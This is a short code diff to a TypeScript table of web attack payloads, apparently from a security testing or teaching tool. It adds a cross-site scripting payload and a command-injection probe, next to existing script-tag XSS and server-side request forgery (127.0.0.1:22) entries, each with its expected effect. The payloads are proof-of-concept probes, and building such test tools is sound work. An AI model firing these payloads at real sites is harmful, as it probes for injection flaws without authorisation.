@@ -54,6 +54,11 @@ export const PAYLOADS: Readonly<Record<string, Payload>> = {
     text: (quote) => `${quote}><script>alert(document.domain)</script>`.replace(/^>/, ''),
     effect: "The script stands in the page unescaped, and a browser runs it in the site's name.",
   },
+  'cross-site scripting, in the browser': {
+    text: () => '<img src=x onerror=alert(document.domain)>',
+    effect: "The page shows the alert: what the address or message says ran in the site's name.",
+  },
+  'command injection, argument-injection': { text: () => 'id', effect: 'The answer shows that `id` was started in place of the intended program.' },
   'server-side request forgery': {
     text: () => 'http://127.0.0.1:22/',
     effect: "The server itself connects to its own port 22: the answer or its delay tells what listens there.",
